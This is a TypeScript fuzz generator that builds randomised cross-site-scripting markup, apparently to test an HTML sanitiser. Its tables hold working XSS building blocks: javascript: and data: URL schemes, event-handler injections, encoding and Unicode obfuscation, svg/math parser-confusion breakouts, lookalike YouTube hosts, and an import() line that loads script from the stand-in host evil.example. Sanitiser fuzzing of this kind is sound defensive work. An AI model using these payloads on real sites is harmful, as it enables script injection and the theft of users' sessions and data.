import type { Random } from './random.ts';

/**
 * Hostile markup from a grammar: elements that run, navigate or smuggle, written as browsers still understand them and
 * placed where a sanitiser looks least. Invented for these tests.
 */
export function hostileMarkup(random: Random): string {
  return place(random, nested(random, 1 + random.upTo(3)));
}

const run = [
  'alert(1)',
  'alert`1`',
  'top["al"+"ert"](1)',
  'eval(name)',
  'import("//evil.example/x.js")',
  'location="//evil.example"',
];
const blank = [' ', '\t', '\n', '\f', '\r\n', '/', ' / ', '\u00a0', '\u000b', ' x ', '\u0000'];
const tags =
  'a abbr acronym address applet area article aside audio b base bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup content data datalist dd del details dfn dialog dir div dl dt element em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h6 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp x-tag math amp-img amp-iframe amp-script'.split(
    ' ',
  );
const handlers =
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onblur oncanplay onclick oncontextmenu oncopy oncut ondblclick ondrag onerror onfocus onfocusin ongotpointercapture onhashchange oninput onkeydown onload onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onplay onpointerover onpopstate onresize onscroll onscrollsnapchange onsearch onselect onshow onsubmit ontoggle ontouchstart ontransitionend onunload onvolumechange onwebkitanimationstart onwheel'.split(
    ' ',
  );
const addresses =
  'action archive background cite classid code codebase data data-bg data-href data-lazy-src data-original data-src data-srcset dynsrc formaction from href icon imagesrcset longdesc lowsrc manifest ping poster profile src srcdoc srcset style to usemap value values xlink:href xml:base'.split(
    ' ',
  );
const schemes = [
  'javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'data:image/svg+xml,',
  'livescript:',
  'mocha:',
  'blob:',
  'filesystem:',
  'file:///',
  'about:',
  'feed:javascript:',
  'view-source:',
  'jar:',
  'ms-its:',
  'mhtml:',
  '//evil.example/',
  'https://www.youtube.com.evil.example/embed/',
  'https://www.youtube.com@evil.example/embed/',
  'https://www.youtube.com/embed/../../redirect?q=',
  'https:\\\\evil.example\\',
  'mailto:x?',
  'tel:1;',
];
const foreign = [
  'svg',
  'math',
  'svg><foreignObject',
  'svg><desc',
  'svg><title',
  'svg><style',
  'svg><script',
  'math><mtext',
  'math><mi',
  'math><annotation-xml encoding="text/html"',
  'math><annotation-xml encoding="application/xhtml+xml"',
  'math><mglyph',
  'math><malignmark',
  'svg><animate attributename=href',
  'svg><set attributename=onload',
  'svg><use href="data:image/svg+xml,x"',
  'svg><image',
  'svg><a',
  'math><maction actiontype="statusline"',
];
const rawText = [
  'noembed',
  'noframes',
  'noscript',
  'plaintext',
  'script',
  'style',
  'textarea',
  'title',
  'xmp',
  'iframe',
  'listing',
  'template',
  'comment',
];
const openers = [
  '<!--',
  '<!-->',
  '<!--->',
  '<![CDATA[',
  '<?xml ',
  '<?php ',
  '<!',
  '<!DOCTYPE x [<!ENTITY y "',
  '</',
  '<%',
  '<//',
];
const closers = ['-->', '--!>', ']]>', '?>', '>', '"]>', '%>', '', ']]&gt;', '-- >']; // biome-ignore format: tables

function encoded(random: Random, text: string): string {
  const forms: readonly ((character: string) => string)[] = [
    (c) => `&#${c.codePointAt(0)};`,
    (c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)}`,
    (c) => `&#0000${c.codePointAt(0)}`,
    (c) => `&#X000${(c.codePointAt(0) ?? 0).toString(16)};`,
    (c) => (c === ':' ? '&colon;' : c === '(' ? '&lpar;' : c),
    (c) => `\\u00${(c.codePointAt(0) ?? 0).toString(16).padStart(2, '0')}`,
    (c) => `%${(c.codePointAt(0) ?? 0).toString(16).padStart(2, '0')}`,
    (c) => `${c}${random.pick(['\t', '\n', '\u0000', '\u0001', '&Tab;', '&NewLine;', '\u00ad', '\u200b', '\ufeff'])}`,
    (c) => (random.chance(0.5) ? c.toUpperCase() : c),
    (c) => (c === 's' ? '\u017f' : c === 'k' ? '\u212a' : c === 'i' ? '\u0131' : c),
  ]; // biome-ignore format: a table
  if (random.chance(0.4)) return text;
  const form = random.pick(forms);
  const share = random.pick([0.1, 0.5, 1]);
  return [...text].map((character) => (random.chance(share) ? form(character) : character)).join('');
}

const address = (random: Random): string =>
  `${random.pick(['', '', ' ', '\t', '\u0001', '\u0000', '\u00a0'])}${encoded(random, random.pick(schemes))}${encoded(random, random.pick(run))}`;

function quoted(random: Random, value: string): string {
  const quote = random.pick(['"', "'", '`', '', '"', '\u201c']);
  return `${quote}${value}${random.chance(0.9) ? quote : ''}`;
}

function attribute(random: Random): string {
  const kind = random.upTo(6);
  if (kind <= 1) return `${spelt(random, random.pick(handlers))}=${quoted(random, encoded(random, random.pick(run)))}`;
  if (kind <= 3) return `${spelt(random, random.pick(addresses))}=${quoted(random, address(random))}`;
  if (kind === 4) return `${random.pick(['alt', 'class', 'id', 'title', 'name', 'datetime', 'aria-label', 'data-x'])}=${quoted(random, breakout(random))}`;
  return random.pick(['autofocus', 'contenteditable', 'hidden', 'is="x-tag"', 'slot=x', 'http-equiv=refresh', 'rel=import', 'type=image', 'width=600 height=400', 'class="twitter-tweet"', 'class="wp-embedded-content"', 'class="caption"', 'class="credit"', 'role=presentation', 'colspan="2 onclick=1"', 'style="width:expression(alert(1))"', 'style="background:url(javascript:alert(1))"']);
} // biome-ignore format: lines of the grammar

const spelt = (random: Random, name: string): string =>
  random.chance(0.7) ? name : [...name].map((c) => (random.chance(0.5) ? c.toUpperCase() : c)).join('');

/** Text that ends what holds it and begins something else. */
function breakout(random: Random): string {
  const ends = random.pick(rawText);
  return random.pick([
    `</${ends}><img src=x onerror=${random.pick(run)}>`,
    `"><svg onload=${random.pick(run)}>`,
    `'><script>${random.pick(run)}</script>`,
    `--><img src=x onerror=${random.pick(run)}>`,
    `]]><script>${random.pick(run)}</script>`,
    `&quot;&gt;&lt;script&gt;${random.pick(run)}&lt;/script&gt;`,
    `\`onmouseover=${random.pick(run)}`,
    `&lt;/${ends}&gt;&lt;iframe srcdoc=x&gt;`,
  ]);
}

function element(random: Random, inner: string): string {
  const tag = random.pick(tags);
  const attributes = Array.from(
    { length: random.upTo(4) },
    () => `${random.pick(blank)}${attribute(random)}`,
  );
  const end = random.pick([`</${tag}>`, `</${tag}>`, `</${tag} x>`, '', `</${random.pick(tags)}>`]);
  return `<${random.chance(0.03) ? random.pick(['\u0000', ' ', '<', '/']) : ''}${spelt(random, tag)}${attributes.join('')}${random.pick(['>', '>', '/>', ' >', ''])}${inner}${end}`;
}

function nested(random: Random, depth: number): string {
  if (depth <= 0) return random.pick([...run, 'text', 'x', '', breakout(random)]);
  const inner = nested(random, depth - 1);
  switch (random.upTo(8)) {
    case 0:
      return `<${random.pick(foreign)}>${inner}</${random.pick(['svg', 'math', 'style', 'title', 'p'])}>`;
    case 1: {
      const name = random.pick(rawText);
      return `<${name}>${random.pick(['', '<p title="', '<img alt="', '<!--', '<a id="'])}${breakout(random)}${inner}</${name}>`;
    }
    case 2:
      return `${random.pick(openers)}${inner}${random.pick(closers)}`;
    case 3:
      return encoded(random, `<script>${random.pick(run)}</script>`) + inner;
    case 4:
      return element(random, inner) + element(random, nested(random, depth - 1));
    default:
      return element(random, inner);
  }
}

function place(random: Random, payload: string): string {
  return random.pick([
    payload,
    payload,
    `<p>said ${payload} and went on</p>`,
    `<ul><li>${payload}</li><li>second</li></ul>`,
    `<table><tr><th>${payload}</th><td>1</td></tr><tr><td>${payload}</td><td>2</td></tr></table>`,
    `<table>${payload}<tr><td>cell</td></tr></table>`,
    `<figure><img src="/a.jpg" width="600" height="400" alt="${payload}"><figcaption>${payload}</figcaption></figure>`,
    `<pre>${payload}</pre>`,
    `<h2>${payload}</h2>`,
    `<blockquote class="twitter-tweet"><p>${payload}</p><a href="${payload}">x</a></blockquote>`,
    `<select><option>${payload}</select>`,
    `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
    `<p>${'<b>'.repeat(20)}${payload}</p>`,
    `<iframe src="https://www.youtube.com/embed/abcdefgh" title="${payload}"></iframe>`,
    `<noscript>${payload}</noscript>`,
    `<template>${payload}</template>`,
    `<a href="/x">${payload}</a>`,
  ]);
}
